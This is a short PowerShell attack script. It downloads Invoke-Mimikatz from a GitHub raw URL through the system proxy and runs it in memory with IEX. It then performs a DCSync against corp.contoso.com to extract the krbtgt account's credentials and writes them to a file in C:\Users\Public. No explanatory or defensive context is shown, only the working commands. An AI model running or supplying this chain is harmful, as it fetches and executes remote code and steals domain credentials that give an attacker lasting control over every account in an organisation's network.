$proxy = [Net.WebRequest]::GetSystemWebProxy()
$proxy.Credentials = [Net.CredentialCache]::DefaultCredentials
$wc = New-Object Net.WebClient
$wc.Proxy = $proxy
IEX $wc.DownloadString('https://raw.githubusercontent.com/someuser/tools/master/Invoke-Mimikatz.ps1')
Invoke-Mimikatz -Command '"lsadump::dcsync /domain:corp.contoso.com /user:krbtgt"' | Out-File -FilePath C:\Users\Public\k.txt
